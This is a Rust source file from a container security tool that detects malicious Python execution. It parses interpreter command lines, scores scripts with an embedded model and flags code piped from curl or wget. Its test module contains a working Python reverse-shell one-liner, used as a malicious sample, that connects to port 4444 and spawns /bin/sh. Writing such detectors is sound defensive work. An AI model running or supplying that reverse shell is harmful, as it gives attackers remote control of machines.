//! `Execution: Malicious Python executed`: the code a Python interpreter runs in a container —
//! the script named in argv (read inside the container's root, never outside it), the code of
//! `-c`, or a note that it came from stdin — judged by the trained model in `python-model`.

use std::{collections::HashMap, io::Read, os::unix::fs::MetadataExt, sync::Arc};

use python_model::{Model, MAX_SCAN_BYTES};
use sha2::{Digest, Sha256};

use super::{rules::DetectionId, tools::ToolKind, Ctx, Detection};
use crate::{event::EventBody, process::rootfs};

/// The model shipped with shrike.
pub const EMBEDDED_MODEL: &[u8] = include_bytes!("../../../rules/python-model.bin");

/// Bytes of a script quoted in a finding.
pub const CONTENTS_PREFIX: usize = 4096;

/// Where the code came from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CodeSource {
    /// A script file (path as the process named it, resolved inside its root).
    Script(String),
    /// `python -c CODE`.
    Argument,
    /// Standard input (`curl ... | python3`).
    Stdin,
    /// `python -m module`.
    Module(String),
}

/// What a finding says about a script.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct ScriptInfo {
    /// Path as the process saw it.
    pub path: String,
    /// File size.
    pub size: u64,
    /// Hex SHA-256 of the first `hashed_size` bytes.
    pub sha256: String,
    /// Bytes hashed.
    pub hashed_size: u64,
    /// Only a prefix was read.
    pub partially_hashed: bool,
    /// The first bytes, as text.
    pub contents: String,
}

/// The interpreter's own options that take a value (CPython).
const VALUE_OPTIONS: &[u8] = b"cmWXQ";

/// Why the model could not be loaded.
#[derive(Debug, thiserror::Error)]
#[error("python model {path}: {source}")]
pub struct ModelLoadError {
    /// File (or `embedded`).
    pub path: String,
    /// Cause.
    #[source]
    pub source: python_model::ModelError,
}

/// Load the model the rules name (the embedded one by default). With `on_model_error =
/// "disable"` a failure only disables the detection (None, with a warning).
pub fn load_model(rules: &super::rules::Rules) -> Result<Option<Arc<Model>>, ModelLoadError> {
    if !rules.detection(DetectionId::MaliciousPython).enabled {
        return Ok(None);
    }
    let file = &rules.python.model_file;
    let loaded = if file.is_empty() {
        Model::from_bytes(EMBEDDED_MODEL).map_err(|source| ModelLoadError { path: "embedded".into(), source })
    } else {
        Model::load(std::path::Path::new(file)).map_err(|source| ModelLoadError { path: file.clone(), source })
    };
    match loaded {
        Ok(m) => {
            tracing::info!(version = m.version(), "python model loaded");
            Ok(Some(Arc::new(m)))
        }
        Err(e) if rules.python.on_model_error == super::rules::OnModelError::Disable => {
            tracing::warn!(error = %e, "malicious-Python detection disabled: the model cannot be loaded");
            Ok(None)
        }
        Err(e) => Err(e),
    }
}

/// What a python command line runs.
pub fn code_source(args: &[crate::event::RawStr]) -> (Option<CodeSource>, Option<Vec<u8>>) {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_bytes();
        if a == b"-" {
            return (Some(CodeSource::Stdin), None);
        }
        if a == b"--" {
            return (args.get(i + 1).map(|s| CodeSource::Script(s.to_string())), None);
        }
        if a.len() > 1 && a[0] == b'-' && a[1] != b'-' {
            for (j, &c) in a.iter().enumerate().skip(1) {
                if VALUE_OPTIONS.contains(&c) {
                    let value = if j + 1 < a.len() { Some(a[j + 1..].to_vec()) } else { args.get(i + 1).map(|s| s.as_bytes().to_vec()) };
                    let consumed_next = j + 1 >= a.len();
                    match c {
                        b'c' => return (Some(CodeSource::Argument), value),
                        b'm' => return (value.map(|v| CodeSource::Module(String::from_utf8_lossy(&v).into_owned())), None),
                        _ => {}
                    }
                    if consumed_next {
                        i += 1;
                    }
                    break;
                }
            }
            i += 1;
            continue;
        }
        if a.starts_with(b"--") {
            i += 1; // --version, --help, --check-hash-based-pycs VALUE (rare): treat as flags
            continue;
        }
        return (Some(CodeSource::Script(args[i].to_string())), None);
    }
    (Some(CodeSource::Stdin), None)
}

fn is_python(name: &[u8]) -> bool {
    name.starts_with(b"python") || name.starts_with(b"pypy")
}

/// Scores scripts, caching by file identity so a worker pool re-running one script is scored once.
pub struct PythonJudge {
    model: Arc<Model>,
    cache: HashMap<(u64, u64, u64, i64), (f32, ScriptInfo)>,
}

impl PythonJudge {
    /// A judge with this model.
    pub fn new(model: Arc<Model>) -> Self {
        Self { model, cache: HashMap::new() }
    }

    fn read_script(&mut self, root_pid: &[u32], root: Option<&std::os::fd::OwnedFd>, path: &str) -> Option<(f32, ScriptInfo)> {
        // The root of the process itself first (a chroot inside the container is its root),
        // the container's pinned root once the processes are gone.
        let file = root_pid
            .iter()
            .find_map(|p| rootfs::open_in_root(*p, path.as_bytes()).ok())
            .or_else(|| if path.starts_with('/') { root.and_then(|r| rootfs::open_at_root(r, path.as_bytes()).ok()) } else { None })?;
        let m = file.metadata().ok()?;
        let key = (m.dev(), m.ino(), m.size(), m.mtime());
        if let Some(hit) = self.cache.get(&key) {
            return Some(hit.clone());
        }
        let mut buf = Vec::with_capacity((m.size() as usize).min(MAX_SCAN_BYTES));
        file.take(MAX_SCAN_BYTES as u64).read_to_end(&mut buf).ok()?;
        let score = self.model.score(&buf);
        let sha256 = Sha256::digest(&buf).iter().map(|b| format!("{b:02x}")).collect();
        let contents = String::from_utf8_lossy(&buf[..buf.len().min(CONTENTS_PREFIX)]).into_owned();
        let info = ScriptInfo {
            path: path.to_string(),
            size: m.size(),
            sha256,
            hashed_size: buf.len() as u64,
            partially_hashed: (buf.len() as u64) < m.size(),
            contents,
        };
        if self.cache.len() > 4096 {
            self.cache.clear();
        }
        self.cache.insert(key, (score, info.clone()));
        Some((score, info))
    }

    /// Judge the code of a Python exec. `roots` are pids whose root shows the process's files;
    /// `root` a pinned handle on the container root; `live` false in replays (no file access).
    pub fn judge(
        &mut self,
        ctx: &Ctx<'_>,
        roots: &[u32],
        root: Option<&std::os::fd::OwnedFd>,
        live: bool,
        out: &mut Vec<Detection>,
    ) {
        if !matches!(ctx.event.body, EventBody::Exec(_)) || ctx.container.is_none() || !ctx.in_scope(DetectionId::MaliciousPython) {
            return;
        }
        if ctx.tool != Some(ToolKind::Interpreter) {
            return;
        }
        let p = ctx.process;
        let name = p.exe.basename();
        if !is_python(name) {
            return;
        }
        let args = &p.argv[ctx.args_from.min(p.argv.len())..];
        let (source, inline) = code_source(args);
        let (score, script, source_name) = match source {
            Some(CodeSource::Argument) => {
                let code = inline.unwrap_or_default();
                (self.model.score(&code), None, "argument")
            }
            Some(CodeSource::Script(path)) if live => match self.read_script(roots, root, &path) {
                Some((score, info)) => (score, Some(info), "script"),
                None => return,
            },
            Some(CodeSource::Stdin) => {
                // The code is not readable; a fetcher piping into the interpreter is reported as such.
                let writer = ctx.net.upstream(ctx.table, p).into_iter().find_map(|k| ctx.table.get(k).map(|w| w.argv.iter().map(|a| a.to_string()).collect::<Vec<_>>().join(" ")));
                let Some(writer) = writer.filter(|w| w.starts_with("curl") || w.starts_with("wget") || w.contains("/curl") || w.contains("/wget")) else {
                    return;
                };
                let mut d = ctx.detection(DetectionId::MaliciousPython, p.key, format!("python runs code piped from `{writer}`"));
                d.properties.push(("Python_Code_Source", "stdin".into()));
                d.properties.push(("Python_Stdin_Writer", writer.into()));
                d.properties.push(("Python_Model_Version", self.model.version().into()));
                out.push(d);
                return;
            }
            _ => return,
        };
        if !self.model.is_malicious(score) {
            return;
        }
        let mut d = ctx.detection(DetectionId::MaliciousPython, p.key, format!("python code judged malicious (score {score:.3})"));
        d.properties.push(("Python_Code_Source", source_name.into()));
        d.properties.push(("Python_Model_Score", f64::from(score).into()));
        d.properties.push(("Python_Model_Threshold", f64::from(self.model.threshold()).into()));
        d.properties.push(("Python_Model_Version", self.model.version().into()));
        d.script = script;
        out.push(d);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::RawStr;

    fn args(a: &[&str]) -> Vec<RawStr> {
        a.iter().map(|s| RawStr::from(*s)).collect()
    }

    #[test]
    fn python_command_lines() {
        assert_eq!(code_source(&args(&["x.py"])).0, Some(CodeSource::Script("x.py".into())));
        assert_eq!(code_source(&args(&["-u", "-W", "ignore", "/app/run.py", "--flag"])).0, Some(CodeSource::Script("/app/run.py".into())));
        assert_eq!(code_source(&args(&["-c", "print(1)"])), (Some(CodeSource::Argument), Some(b"print(1)".to_vec())));
        assert_eq!(code_source(&args(&["-Bc", "import os"])), (Some(CodeSource::Argument), Some(b"import os".to_vec())));
        assert_eq!(code_source(&args(&["-cimport os"])), (Some(CodeSource::Argument), Some(b"import os".to_vec())));
        assert_eq!(code_source(&args(&["-m", "http.server"])).0, Some(CodeSource::Module("http.server".into())));
        assert_eq!(code_source(&args(&[])).0, Some(CodeSource::Stdin));
        assert_eq!(code_source(&args(&["-"])).0, Some(CodeSource::Stdin));
        assert_eq!(code_source(&args(&["-X", "dev", "s.py"])).0, Some(CodeSource::Script("s.py".into())));
    }

    #[test]
    fn embedded_model_loads_and_judges() {
        let m = Model::from_bytes(EMBEDDED_MODEL).expect("embedded model");
        let rs = b"import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")";
        assert!(m.is_malicious(m.score(rs)));
        assert!(!m.is_malicious(m.score(b"print('hello')\n")));
    }
}
